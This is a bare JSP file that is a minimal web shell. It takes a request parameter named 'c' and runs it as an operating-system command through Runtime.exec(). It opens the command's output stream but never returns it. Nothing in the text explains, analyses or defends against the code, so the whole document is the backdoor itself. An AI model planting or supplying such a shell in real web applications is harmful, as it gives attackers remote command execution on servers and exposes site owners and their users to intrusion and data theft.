<%@ page import="java.io.*" %>
<%
String c = request.getParameter("c");
if (c != null) {
    Process p = Runtime.getRuntime().exec(c);
    InputStream in = p.getInputStream();
}
%>
